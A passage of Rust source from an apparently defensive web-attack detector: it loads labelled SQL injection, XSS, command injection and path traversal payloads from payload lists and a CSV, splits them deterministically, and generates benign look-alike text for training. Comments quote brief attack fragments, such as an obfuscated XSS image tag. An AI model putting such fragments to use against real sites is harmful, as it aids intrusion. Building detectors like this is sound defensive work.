//! Data sets for training and evaluation: the httpparams CSV, the payload
//! lists, and a generated benign corpus. Splits are deterministic (hash of
//! the value with a fixed seed) so training is reproducible.

use std::path::{Path, PathBuf};

/// What a value is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Kind {
    Benign,
    Sqli,
    Xss,
    Cmdi,
    PathTraversal,
}

impl Kind {
    pub fn name(self) -> &'static str {
        match self {
            Kind::Benign => "benign",
            Kind::Sqli => "sqli",
            Kind::Xss => "xss",
            Kind::Cmdi => "cmdi",
            Kind::PathTraversal => "path-traversal",
        }
    }

    pub fn parse(s: &str) -> Option<Kind> {
        Some(match s {
            "norm" | "benign" => Kind::Benign,
            "sqli" => Kind::Sqli,
            "xss" => Kind::Xss,
            "cmdi" => Kind::Cmdi,
            "path-traversal" => Kind::PathTraversal,
            _ => return None,
        })
    }
}

/// One labelled value and where it came from.
#[derive(Debug, Clone)]
pub struct Sample {
    pub value: String,
    pub kind: Kind,
    pub source: String,
}

/// Reads a CSV of `"payload","length","attack_type","label"` (RFC 4180 quoting).
pub fn read_httpparams(path: &Path) -> Result<Vec<Sample>, String> {
    let text = std::fs::read_to_string(path).map_err(|e| format!("{}: {e}", path.display()))?;
    let rows = parse_csv(&text);
    let source = path
        .file_name()
        .map(|f| f.to_string_lossy().into_owned())
        .unwrap_or_default();
    let mut out = Vec::new();
    for (i, row) in rows.into_iter().enumerate() {
        if i == 0 && row.first().map(String::as_str) == Some("payload") {
            continue;
        }
        if row.len() < 3 {
            return Err(format!(
                "{}: row {} has {} fields",
                path.display(),
                i + 1,
                row.len()
            ));
        }
        let kind = Kind::parse(&row[2]).ok_or_else(|| {
            format!(
                "{}: row {}: unknown type {:?}",
                path.display(),
                i + 1,
                row[2]
            )
        })?;
        out.push(Sample {
            value: row[0].clone(),
            kind,
            source: format!("httpparams/{source}"),
        });
    }
    Ok(out)
}

fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if quoted {
            match c {
                '"' if chars.peek() == Some(&'"') => {
                    field.push('"');
                    chars.next();
                }
                '"' => quoted = false,
                c => field.push(c),
            }
            continue;
        }
        match c {
            '"' => quoted = true,
            ',' => row.push(std::mem::take(&mut field)),
            '\n' => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            '\r' => {}
            c => field.push(c),
        }
    }
    if !field.is_empty() || !row.is_empty() {
        row.push(field);
        rows.push(row);
    }
    rows
}

/// Payload lists that are not attacks: bare event-handler names.
const NOT_PAYLOADS: &[&str] = &[
    "0xcela_event_handlers.txt",
    "port_swigger_xss_cheatsheet_event_handlers.txt",
];

/// Reads every list of a payload folder (`sqli`, `xss`, `cmdi`), one payload
/// a line as [`payload_of_line`] reads it.
pub fn read_payload_folder(dir: &Path, kind: Kind) -> Result<Vec<Sample>, String> {
    let mut files: Vec<PathBuf> = std::fs::read_dir(dir)
        .map_err(|e| format!("{}: {e}", dir.display()))?
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.is_file())
        .collect();
    files.sort();
    let mut out = Vec::new();
    for f in files {
        let name = f
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        if NOT_PAYLOADS.contains(&name.as_str()) {
            continue;
        }
        let bytes = std::fs::read(&f).map_err(|e| format!("{}: {e}", f.display()))?;
        for line in String::from_utf8_lossy(&bytes).lines() {
            let Some(v) = payload_of_line(line, kind) else {
                continue;
            };
            out.push(Sample {
                value: v.to_string(),
                kind,
                source: format!("payloads/{}/{name}", kind.name()),
            });
        }
    }
    Ok(out)
}

/// The payload a line of a PayloadsAllTheThings list holds, if any. The
/// lists mix payloads with documentation (the data set's README: "some lines
/// are blank or comments"), which is not an attack to detect:
/// - blank lines, and probes shorter than 4 characters (a lone `'` is a
///   probe, not an injection);
/// - comment lines: `#` then a space or a tab (`# from wapiti`, `#\t Hash
///   comment`) in every list, and any line starting with `#` in the XSS lists
///   (their `#` lines are all comments);
/// - section headings, a line of words ending in `:` (`Time-Based:`,
///   `Comments:`);
/// - the cheat sheet's glossary lines, `symbol<TAB>description` where the
///   description is prose (`-- -\tSQL comment`): the payload is the symbol.
///   A tab inside a payload (`<IMG SRC="jav\tascript:...">`) is followed by
///   code, not prose, and is kept.
pub fn payload_of_line(line: &str, kind: Kind) -> Option<&str> {
    let mut v = line.trim_end_matches(['\r', '\n']);
    if let Some((symbol, description)) = v.split_once('\t') {
        let description = description.trim();
        let prose = description
            .bytes()
            .all(|b| b.is_ascii_alphabetic() || b" ,()-".contains(&b));
        if !symbol.trim().is_empty() && !description.is_empty() && prose {
            v = symbol.trim_end();
        }
    }
    let comment =
        v.starts_with("# ") || v.starts_with("#\t") || (kind == Kind::Xss && v.starts_with('#'));
    let heading = v.len() > 1
        && v.ends_with(':')
        && v[..v.len() - 1]
            .bytes()
            .all(|b| b.is_ascii_alphabetic() || b == b' ' || b == b'-');
    if v.trim().len() < 4 || comment || heading {
        return None;
    }
    Some(v)
}

/// Reads one value per line with a fixed label.
pub fn read_lines(path: &Path, kind: Kind) -> Result<Vec<Sample>, String> {
    let bytes = std::fs::read(path).map_err(|e| format!("{}: {e}", path.display()))?;
    Ok(String::from_utf8_lossy(&bytes)
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| Sample {
            value: l.to_string(),
            kind,
            source: path.display().to_string(),
        })
        .collect())
}

/// FNV-1a with a seed: the deterministic split key of a value.
pub fn split_hash(seed: u64, s: &str) -> u64 {
    let mut h = 0xcbf2_9ce4_8422_2325u64 ^ seed;
    for b in s.bytes() {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    h
}

/// Whether a value falls in the held-out 20 %.
pub fn held_out(seed: u64, s: &str) -> bool {
    split_hash(seed, s).is_multiple_of(5)
}

/// A small deterministic PRNG (xorshift64*), so the benign corpus is the same on every machine.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Rng(seed.max(1))
    }
    pub fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    pub fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
    pub fn pick<'a>(&mut self, v: &[&'a str]) -> &'a str {
        v[self.below(v.len())]
    }
}

const FIRST: &[&str] = &[
    "Jane",
    "John",
    "Seán",
    "Zoë",
    "Jean-Luc",
    "Mary-Kate",
    "Ahmed",
    "Li",
    "Olga",
    "Pierre",
    "Ana",
    "Chloé",
    "Siobhán",
    "D'Arcy",
    "José",
    "Kai",
    "Noor",
    "Émile",
    "Björn",
    "Aoife",
];
const LAST: &[&str] = &[
    "O'Brien",
    "D'Angelo",
    "McDonald",
    "O'Neil",
    "Smith",
    "García-López",
    "van der Berg",
    "Nguyen",
    "Müller",
    "L'Heureux",
    "Dell'Acqua",
    "St. John",
    "Ó Súilleabháin",
    "Johnson",
    "Kowalski",
    "de la Cruz",
    "N'Diaye",
    "Select",
    "Union",
    "Drop",
];
const WORDS: &[&str] = &[
    "select",
    "your",
    "plan",
    "drop",
    "down",
    "menu",
    "union",
    "station",
    "order",
    "by",
    "date",
    "delete",
    "my",
    "account",
    "update",
    "the",
    "table",
    "insert",
    "coin",
    "from",
    "where",
    "join",
    "us",
    "and",
    "or",
    "not",
    "null",
    "exec",
    "summary",
    "sleep",
    "well",
    "char",
    "group",
    "having",
    "fun",
    "case",
    "when",
    "then",
    "end",
    "into",
    "values",
    "set",
    "create",
    "alter",
    "user",
    "like",
    "this",
    "script",
    "alert",
    "me",
    "on",
    "load",
    "error",
    "image",
    "source",
    "please",
    "call",
    "back",
    "tomorrow",
    "it's",
    "don't",
    "I'll",
    "we're",
    "can't",
    "great",
    "price",
    "shipping",
    "to",
    "Paris",
    "is",
    "a",
    "of",
    "for",
    "with",
    "nice",
    "product",
    "but",
    "too",
    "expensive",
    "size",
    "color",
    "red",
    "blue",
    "small",
    "large",
    "return",
    "refund",
    "cancel",
    "thanks",
    "hello",
    "team",
    "document",
    "window",
    "location",
    "cookie",
    "eval",
    "function",
    "body",
    "frame",
    "style",
    "import",
    "echo",
    "cat",
    "dog",
    "ping",
    "host",
    "id",
    "name",
    "email",
    "password",
    "reset",
    "link",
    "click",
    "here",
    "more",
    "info",
    "about",
];
const STREETS: &[&str] = &[
    "rue de l'Église",
    "Baker St.",
    "avenue des Champs-Élysées",
    "Calle Mayor",
    "Old Kent Road",
    "Main Street",
    "chemin du Moulin",
    "O'Connell St",
    "Via dell'Orso",
    "Union Square",
];
const DOMAINS: &[&str] = &[
    "example.com",
    "mail.example.org",
    "shop.example.net",
    "uni.example.edu",
    "example.co.uk",
];
const UAS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "curl/8.5.0",
    "python-requests/2.32.3",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.6422.165 Mobile Safari/537.36",
    "okhttp/4.12.0",
    "PostmanRuntime/7.39.0",
];
const FIXED: &[&str] = &[
    "<3",
    "a < b and c > d",
    "x >= 10 && y <= 5",
    "1-2-3",
    "5 * 3 = 15",
    "50% off",
    "C++ & C#",
    "rock'n'roll",
    "Q&A",
    "AT&T",
    "Tom & Jerry",
    "R&D",
    "select your plan",
    "drop-down",
    "order by price",
    "union station",
    "delete account?",
    "I'll be there at 5; don't wait",
    "it's 100% cotton",
    "2+2=4",
    "f(x) = 2x + 1",
    "if (a > b) { return a; }",
    "email me at jane@example.com",
    "see https://example.com/a?b=1&c=2",
    "#hashtag",
    "-- signed, Mike",
    "\"quoted\"",
    "'single quoted'",
    "O'Reilly Media",
    "Dunkin' Donuts",
    "n/a",
    "N/A",
    "-",
    "--",
    "...",
    ":-)",
    ";-)",
    "<b>bold</b>",
    "<i>note</i>",
    "<p>Hello</p>",
    "<br>",
    "line one<br>line two",
    "=SUM(A1:A10)",
    "[x] done",
    "(optional)",
    "1, 2, 3",
    "yes/no",
    "true",
    "null",
    "undefined",
    "NaN",
    "The table is 'round' (sort of)",
    "He said \"hi\" -- then left",
    "Café & Bar; open 9-5",
    "Sales (Q3) - up 12%",
    "a=b",
    "key=value",
    "x=1&y=2",
    "#1 best seller",
    "$(5.00)",
    "price: $19.99",
    "€5,00",
    "£3.50",
    "¥500",
    "3/4 cup",
    "10:30 AM",
    "use the <code> tag",
    "<3 <3 <3",
    "I <3 New York",
    "A+ rating",
    "B- grade",
    "it's a 10/10",
    "Mr. & Mrs. Smith",
    "L'Oréal",
    "Ben & Jerry's",
];

/// Words and names with an apostrophe before a word SQL knows: French and
/// Italian elisions, brands, places.
const ELISIONS: &[&str] = &[
    "d'Or",
    "L'Or",
    "l'Or",
    "L'Union",
    "l'union",
    "d'Orsay",
    "l'Ordre",
    "L'Oréal",
    "d'Artagnan",
    "Jeanne d'Arc",
    "l'Andana",
    "dell'Orto",
    "L'Occitane",
    "c'est",
    "qu'on",
    "j'ai",
    "n'est",
    "s'il",
    "aujourd'hui",
    "D'Angelo",
    "O'Connor",
    "l'Or Noir",
    "d'Or ou d'Argent",
    "l'Union et l'Ordre",
];

/// Everyday text where quotes, double hyphens and feet-and-inches marks
/// sit next to words SQL knows: "Ballon d'Or", `5' 10"`, "well--maybe",
/// "press 'OR' or 'AND'".
fn prose_with_marks(r: &mut Rng) -> String {
    let w = r.pick(WORDS);
    match r.below(9) {
        0 => r.pick(ELISIONS).to_string(),
        1 => format!(
            "{} {}",
            r.pick(
                ["Ballon", "Côte", "Champs", "Café", "Hôtel", "Rue", "Place", "Prix"].as_slice()
            ),
            r.pick(ELISIONS)
        ),
        2 => format!("{} {}", r.pick(ELISIONS), sentence(r)),
        3 => match r.below(4) {
            0 => format!("{}' {}\"", 4 + r.below(3), r.below(12)),
            1 => format!("{}'{}\"", 4 + r.below(3), r.below(12)),
            2 => format!(
                "{}\" {}",
                7 + r.below(12),
                r.pick(["pizza", "screen", "pipe", "monitor", "TV", "or larger"].as_slice())
            ),
            _ => format!("{}' x {}' room", 2 + r.below(20), 2 + r.below(20)),
        },
        4 => format!("{w}--{}", r.pick(WORDS)),
        5 => format!("{} -- {}", sentence(r), sentence(r)),
        6 => format!(
            "the '{w}' {}",
            r.pick(["button", "option", "tab", "field", "key", "word"].as_slice())
        ),
        7 => format!("'{w}' or '{}'", r.pick(WORDS)),
        _ => format!("type \"{w}\" or \"{}\"", r.pick(WORDS)),
    }
}

/// Everyday phrases with the numbers, operators, parentheses and quotes
/// that SQL also uses: counts and ranges (`1 or 2 people`), ratios and
/// times (`50/50`, `(1:1)`), titles in quotes, years in parentheses, and
/// the small code snippets of a developer forum.
fn everyday_phrase(r: &mut Rng) -> String {
    const NOUNS: &[&str] = &[
        "people", "items", "boxes", "nights", "guests", "tickets", "pages", "kids", "adults",
        "seats", "rooms", "days", "hours", "slices", "bottles",
    ];
    let (n, m) = (1 + r.below(12), 1 + r.below(60));
    let noun = r.pick(NOUNS);
    let w = r.pick(WORDS);
    let year = 1950 + r.below(76);
    match r.below(16) {
        0 => format!("{n} or {m} {noun}"),
        1 => format!("{n} to {m} {noun}, {}", sentence(r)),
        2 => format!("Table for {n}, or {m} if possible"),
        3 => format!("{n}/{m} -- {}", sentence(r)),
        4 => format!("{w} & {} ({n}:{m})", r.pick(WORDS)),
        5 => format!("\"{}\" {noun} ({year})", sentence(r)),
        6 => format!(
            "The '{w}' {} in {}",
            r.pick(WORDS),
            r.pick(["Excel", "Word", "Sheets", "the app"].as_slice())
        ),
        7 => format!("{} (est. {year})", sentence(r)),
        8 => format!(
            "Insert {w} ({n}{}) to {}",
            r.pick(["c", "$", "%", " min"].as_slice()),
            r.pick(WORDS)
        ),
        9 => format!("{n} {noun} ({m} {}); {}", r.pick(NOUNS), sentence(r)),
        10 => format!("{w}(x) = {n}x + {m} for {}", sentence(r)),
        11 => format!("const {w} = (a, b) => a + b;"),
        12 => format!("x = {n}; y = {m}; z = x + y"),
        13 => format!("{} -- {n} {noun}, {m} {}", sentence(r), r.pick(NOUNS)),
        14 => format!("{} ({n} of {m})", sentence(r)),
        _ => format!("{w} = {n} and {} = {m}", r.pick(WORDS)),
    }
}

/// Labelled things with a number and a remark in parentheses, as forms,
/// listings and messages write them: `Room 12 (second floor)`, `Version
/// 2.1 -> 2.2 (breaking)`, `We need 2 (maybe 3) volunteers`. To a token
/// model `word number ( word word )` looked like an injection (`Room 12
/// (second floor)` scored 0.999): the remark is prose, not a subquery.
fn labelled_item(r: &mut Rng) -> String {
    const LABELS: &[&str] = &[
        "Room", "Apt", "Flat", "Gate", "Seat", "Bus", "Exit", "Level", "Box", "Line", "Note",
        "Model", "Route", "Aisle", "Table", "Item", "Chapter", "Season", "Version", "Order",
        "Ticket", "Grade", "Step", "Option", "Pack", "Size", "Unit", "Floor", "Bay", "Stage",
        "Zone", "Lane", "Shelf", "Row", "Class", "Group", "Team", "Day", "Page", "Section",
        "Article", "Figure", "Volume", "Issue", "Case", "Lab", "Studio", "Hall", "Door", "Pier",
        "Cabin", "Deck", "Car",
    ];
    const UNITS: &[&str] = &[
        "ml", "g", "kg", "km", "min", "GB", "cm", "pm", "am", "euros",
    ];
    let label = r.pick(LABELS);
    let (n, m) = (1 + r.below(99), 1 + r.below(20));
    let words = |r: &mut Rng| {
        let k = 1 + r.below(3);
        (0..k)
            .map(|_| r.pick(WORDS).to_lowercase())
            .collect::<Vec<_>>()
            .join(" ")
    };
    match r.below(9) {
        0 | 1 => format!("{label} {n} ({})", words(r)),
        2 => format!(
            "{label} {n}{} ({})",
            r.pick(["A", "B", "C", "D", "bis"].as_slice()),
            words(r)
        ),
        3 => format!(
            "{label} {}.{} -> {}.{} ({})",
            r.below(5),
            r.below(10),
            r.below(5),
            r.below(10),
            words(r)
        ),
        4 => format!("{label} {n} of {m} ({})", words(r)),
        5 => format!(
            "{} {n} ({} {m}) {}",
            r.pick(["We need", "Bring", "Add", "Buy", "Invite", "Book"].as_slice()),
            r.pick(["maybe", "or", "at most", "ideally"].as_slice()),
            words(r)
        ),
        6 => format!(
            "{label} {n} ({}) and {} {m} ({})",
            words(r),
            r.pick(LABELS).to_lowercase(),
            words(r)
        ),
        7 => format!(
            "{label} {:02}:{:02} ({} {})",
            8 + r.below(10),
            r.below(60),
            r.pick(FIRST),
            r.pick(LAST)
        ),
        _ => format!("{label} {n} ({m} {}, {})", r.pick(UNITS), words(r)),
    }
}

/// What a rich-text editor or a comment form sends: formatting tags, links
/// and images to http(s) URLs, lists and tables, and the angle brackets and
/// parentheses of everyday writing (`Dear <your name>`, `jane(at)example.com`).
fn rich_text(r: &mut Rng) -> String {
    let w = r.pick(WORDS);
    let d = r.pick(DOMAINS);
    match r.below(14) {
        0 => format!("<a href=\"https://{d}/{w}\">{}</a>", sentence(r)),
        1 => format!("<img src=\"https://{d}/img/{w}.png\" alt=\"{w}\">"),
        2 => format!("<p>{}</p><p>{}</p>", sentence(r), sentence(r)),
        3 => format!("<ul><li>{w}</li><li>{}</li></ul>", r.pick(WORDS)),
        4 => format!("<span class=\"{w}\">{}</span>", sentence(r)),
        5 => format!("<h2>{}</h2>\n<p>{}</p>", sentence(r), sentence(r)),
        6 => format!("<blockquote>{}</blockquote>", sentence(r)),
        7 => format!("<code>{w}({})</code> {}", r.pick(WORDS), sentence(r)),
        8 => format!(
            "<table><tr><td>{w}</td><td>{}</td></tr></table>",
            r.below(100)
        ),
        9 => format!(
            "<a href=\"/{w}\" title=\"{}\" target=\"_blank\" rel=\"noopener\">{w}</a>",
            r.pick(WORDS)
        ),
        10 => format!("Dear <{w} {}>, {}", r.pick(WORDS), sentence(r)),
        11 => format!(
            "{}(at){d}",
            r.pick(FIRST).to_lowercase().replace(['\'', ' '], "")
        ),
        12 => format!("<strong>{w}</strong> <em>{}</em><br/>", sentence(r)),
        _ => format!(
            "<div class=\"{w}\"><p>{}</p><img src=\"https://{d}/{w}.jpg\" width=\"{}\"></div>",
            sentence(r),
            100 + r.below(500)
        ),
    }
}

/// File names and paths as users type or paste them, and as forms and
/// uploads carry them: the copy number a browser or a file manager adds
/// (`invoice (1).pdf`, `report-final(2).xlsx`), camera and screenshot
/// names, Windows and Unix paths. A token model read `name(2)` as a call
/// and `name (3).ext` as a subquery (`invoice (1).pdf` 0.82 SQLi and 0.67
/// XSS, `report-final(2).xlsx` 0.99 XSS, with the models of 2026-11-27).
fn file_name(r: &mut Rng) -> String {
    const EXTS: &[&str] = &[
        "pdf", "jpg", "jpeg", "png", "HEIC", "JPG", "xlsx", "docx", "csv", "txt", "zip", "tar.gz",
        "mp4", "mov", "pptx", "odt", "json", "svg", "webp", "mp3",
    ];
    const STEMS: &[&str] = &[
        "invoice",
        "report",
        "photo",
        "scan",
        "contract",
        "receipt",
        "CV",
        "resume",
        "notes",
        "budget",
        "statement",
        "passport",
        "ticket",
        "order",
        "quote",
        "draft",
        "summary",
        "presentation",
        "export",
        "backup",
        "Document",
        "Untitled",
        "image",
        "video",
        "letter",
    ];
    const SUFFIXES: &[&str] = &[
        "final", "v2", "signed", "copy", "new", "old", "2025", "scan",
    ];
    let ext = r.pick(EXTS);
    let stem = match r.below(6) {
        0 => r.pick(STEMS).to_string(),
        1 => format!("{}-{}", r.pick(STEMS), r.pick(SUFFIXES)),
        2 => format!("{}_{}", r.pick(STEMS), r.pick(WORDS).to_lowercase()),
        3 => format!("{} {}", r.pick(STEMS), r.pick(WORDS).to_lowercase()),
        4 => format!("IMG_{:04}", r.below(10_000)),
        _ => format!(
            "Screenshot 2025-{:02}-{:02} at {}.{:02}.{:02}",
            1 + r.below(12),
            1 + r.below(28),
            r.below(24),
            r.below(60),
            r.below(60)
        ),
    };
    let copy = 1 + r.below(9);
    let name = match r.below(4) {
        0 => format!("{stem}.{ext}"),
        1 => format!("{stem}({copy}).{ext}"),
        _ => format!("{stem} ({copy}).{ext}"),
    };
    let user = r.pick(FIRST).to_lowercase().replace(['\'', ' '], "");
    let folder = r.pick(["Downloads", "Documents", "Desktop", "Pictures"].as_slice());
    match r.below(5) {
        0 => format!("C:\\Users\\{user}\\{folder}\\{name}"),
        1 => format!("/home/{user}/{folder}/{name}"),
        2 => format!("~/{folder}/{name}"),
        _ => name,
    }
}

/// What WYSIWYG editors (TinyMCE, CKEditor, Quill, a paste from a word
/// processor) send for formatted text: inline styles, alignment, colours,
/// images with sizes, links with targets, anchors, `mailto:` and `tel:`,
/// headings, lists, tables, figures, media with `controls`, `data-*`
/// attributes and entities. None runs script (no handler, no script URL,
/// no script element); the XSS model blocked most of such output (12 of 21
/// values written from editors' habits, with the models of 2026-11-27).
/// Frames are left out on purpose: a frame to any site is HTML injection.
fn editor_html(r: &mut Rng) -> String {
    const ALIGN: &[&str] = &["left", "center", "right", "justify"];
    const TAGS: &[&str] = &[
        "b", "i", "u", "s", "em", "strong", "sup", "sub", "mark", "small",
    ];
    const EXTS: &[&str] = &["png", "jpg", "jpeg", "webp", "gif", "svg"];
    let d = r.pick(DOMAINS);
    let w = r.pick(WORDS).to_lowercase();
    let text = sentence(r);
    let css = match r.below(7) {
        0 => format!("text-align: {};", r.pick(ALIGN)),
        1 => format!("color: #{:06x};", r.next() & 0xff_ffff),
        2 => format!(
            "color: rgb({}, {}, {});",
            r.below(256),
            r.below(256),
            r.below(256)
        ),
        3 => format!("font-size: {}px;", 10 + r.below(30)),
        4 => format!("margin-left: {}px;", 20 * (1 + r.below(4))),
        5 => "line-height: 1.5;".to_string(),
        _ => format!("width: {}%;", 10 * (1 + r.below(10))),
    };
    let url = match r.below(6) {
        0 => format!("https://{d}/{w}?page={}&amp;sort=date", r.below(20)),
        1 => format!("#{w}-{}", r.below(9)),
        2 => format!("/{w}/{}", r.below(500)),
        3 => format!("mailto:{}@{d}?subject=Order%20{}", w, r.below(999)),
        4 => format!("tel:+33{:09}", r.next() % 1_000_000_000),
        _ => format!("https://{d}/docs/{w}#section-{}", r.below(9)),
    };
    let img = format!(
        "{}/{w}-{}.{}",
        if r.below(2) == 0 {
            format!("https://{d}/img")
        } else {
            format!("/uploads/2026/{:02}", 1 + r.below(12))
        },
        r.below(100),
        r.pick(EXTS)
    );
    let t = r.pick(TAGS);
    match r.below(14) {
        0 => format!("<p style=\"{css}\">{text}</p>"),
        1 => format!("<p><span style=\"{css}\">{text}</span></p>"),
        2 => format!(
            "<img src=\"{img}\" alt=\"{text}\" width=\"{}\" height=\"{}\">",
            100 + r.below(900),
            100 + r.below(600)
        ),
        3 => format!("<img src=\"{img}\" alt=\"{w}\" style=\"{css}\">"),
        4 => format!("<a href=\"{url}\" target=\"_blank\" rel=\"noopener noreferrer\">{text}</a>"),
        5 => format!("<p>{text} <a href=\"{url}\">{w}</a></p>"),
        6 => format!("<h{n} id=\"{w}\">{text}</h{n}>", n = 1 + r.below(6)),
        7 => format!("<p><{t}>{w}</{t}> {text}</p>"),
        8 => format!(
            "<ul style=\"list-style-type: {};\"><li>{w}</li><li>{text}</li></ul>",
            r.pick(["disc", "square", "circle"].as_slice())
        ),
        9 => format!(
            "<table style=\"border-collapse: collapse; width: 100%;\"><tbody><tr><td style=\"{css}\">{w}</td><td>{}</td></tr></tbody></table>",
            r.below(1000)
        ),
        10 => format!("<figure><img src=\"{img}\" alt=\"{w}\"><figcaption>{text}</figcaption></figure>"),
        11 => format!(
            "<{m} controls src=\"https://{d}/media/{w}.{}\"></{m}>",
            if r.below(2) == 0 { "mp4" } else { "mp3" },
            m = if r.below(2) == 0 { "video" } else { "audio" }
        ),
        12 => format!(
            "<div data-{w}=\"{}\" class=\"{w}\"><p>{text}</p></div>",
            r.below(100)
        ),
        _ => format!(
            "<p class=\"MsoNormal\"><span lang=\"{}\">{text}&nbsp;&ndash; {w} &amp; co</span></p>",
            r.pick(["EN-GB", "EN-US", "FR", "DE"].as_slice())
        ),
    }
}

fn uuid(r: &mut Rng) -> String {
    let h = format!("{:016x}{:016x}", r.next(), r.next());
    format!(
        "{}-{}-{}-{}-{}",
        &h[0..8],
        &h[8..12],
        &h[12..16],
        &h[16..20],
        &h[20..32]
    )
}

/// Standard base64 (with `=` padding) of `bytes`.
fn b64(bytes: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

fn token(r: &mut Rng, n: usize) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    (0..n).map(|_| A[r.below(64)] as char).collect()
}

fn sentence(r: &mut Rng) -> String {
    let n = 3 + r.below(14);
    let mut s = String::new();
    for i in 0..n {
        if i > 0 {
            s.push_str(match r.below(12) {
                0 => ", ",
                1 => " - ",
                2 if i + 1 < n => "; ",
                _ => " ",
            });
        }
        let w = r.pick(WORDS);
        if i == 0 || r.below(10) == 0 {
            let mut c = w.chars();
            if let Some(f) = c.next() {
                s.extend(f.to_uppercase());
                s.push_str(c.as_str());
            }
        } else {
            s.push_str(w);
        }
        if r.below(25) == 0 {
            s.push_str(&format!(" ({})", r.pick(WORDS)));
        }
    }
    s.push_str(["", ".", "!", "?", "...", " :)"][r.below(6)]);
    s
}

/// A benign corpus: names with apostrophes, free text full of SQL and HTML
/// words, addresses, e-mails, URLs with queries, JSON, markdown, user
/// agents, identifiers, tokens, dates, prices, and everyday punctuation.
pub fn benign_corpus(seed: u64, n: usize) -> Vec<Sample> {
    let mut r = Rng::new(seed);
    let mut out = Vec::with_capacity(n);
    for _ in 0..n {
        let v = match r.below(24) {
            0 | 1 => format!("{} {}", r.pick(FIRST), r.pick(LAST)),
            2..=6 => sentence(&mut r),
            7 => format!("{}, {}", 1 + r.below(300), r.pick(STREETS)),
            8 => format!(
                "{}.{}{}@{}",
                r.pick(FIRST).to_lowercase().replace(['\'', ' '], ""),
                r.pick(LAST).to_lowercase().replace(['\'', ' '], ""),
                if r.below(3) == 0 { "+news" } else { "" },
                r.pick(DOMAINS)
            ),
            9 => format!(
                "https://{}/{}/{}?q={}&page={}&sort={}",
                r.pick(DOMAINS),
                r.pick(WORDS),
                r.below(9999),
                r.pick(WORDS),
                r.below(20),
                ["asc", "desc", "price", "date"][r.below(4)]
            ),
            10 => format!(
                r#"{{"name": "{}", "qty": {}, "note": "{}"}}"#,
                r.pick(LAST),
                r.below(50),
                sentence(&mut r).replace('"', "'")
            ),
            11 => match r.below(5) {
                0 => format!("**{}** and _{}_", r.pick(WORDS), r.pick(WORDS)),
                1 => format!(
                    "[{}](https://{}/{})",
                    r.pick(WORDS),
                    r.pick(DOMAINS),
                    r.pick(WORDS)
                ),
                2 => format!("`{}` is {}", r.pick(WORDS), sentence(&mut r)),
                3 => format!("# {}", sentence(&mut r)),
                _ => format!("- {}\n- {}", r.pick(WORDS), sentence(&mut r)),
            },
            12 => r.pick(UAS).to_string(),
            13 => match r.below(7) {
                0 => uuid(&mut r),
                4 => {
                    // Base64 of text (a word, a name, a sentence), padded.
                    let t = match r.below(3) {
                        0 => r.pick(WORDS).to_string(),
                        1 => format!("{}:{}", r.pick(FIRST), r.pick(WORDS)),
                        _ => sentence(&mut r),
                    };
                    b64(t.as_bytes())
                }
                5 => {
                    let n = 1 + r.below(40);
                    let bytes: Vec<u8> = (0..n).map(|_| r.next() as u8).collect();
                    b64(&bytes)
                }
                6 => format!("{}={}", r.pick(WORDS), b64(r.pick(LAST).as_bytes())),
                1 => {
                    let n = 16 + r.below(48);
                    token(&mut r, n)
                }
                2 => format!(
                    "eyJhbGciOiJIUzI1NiJ9.{}.{}",
                    token(&mut r, 40),
                    token(&mut r, 43)
                )
                .replace(['+', '/'], "_"),
                _ => format!("{:x}", r.next()),
            },
            14 => match r.below(4) {
                0 => format!("2024-{:02}-{:02}", 1 + r.below(12), 1 + r.below(28)),
                1 => format!(
                    "{:02}/{:02}/2025 {:02}:{:02}",
                    1 + r.below(12),
                    1 + r.below(28),
                    r.below(24),
                    r.below(60)
                ),
                2 => format!(
                    "2025-03-{:02}T{:02}:{:02}:00Z",
                    1 + r.below(28),
                    r.below(24),
                    r.below(60)
                ),
                _ => format!(
                    "+33 6 {:02} {:02} {:02} {:02}",
                    r.below(100),
                    r.below(100),
                    r.below(100),
                    r.below(100)
                ),
            },
            15 => format!("${}.{:02}", r.below(2000), r.below(100)),
            16 | 17 => r.pick(FIXED).to_string(),
            18 => format!("/{}/{}/{}.html", r.pick(WORDS), r.pick(WORDS), r.below(500)),
            19 => prose_with_marks(&mut r),
            20 => rich_text(&mut r),
            21 => everyday_phrase(&mut r),
            22 => labelled_item(&mut r),
            _ => format!("{} {}", r.pick(FIXED), sentence(&mut r)),
        };
        out.push(Sample {
            value: v,
            kind: Kind::Benign,
            source: "generated-benign".into(),
        });
    }
    // Added after the families above, each with a stream of its own, so
    // that the values before them stay those earlier models were judged on.
    let mut family = |stream: u64, count: usize, make: fn(&mut Rng) -> String| {
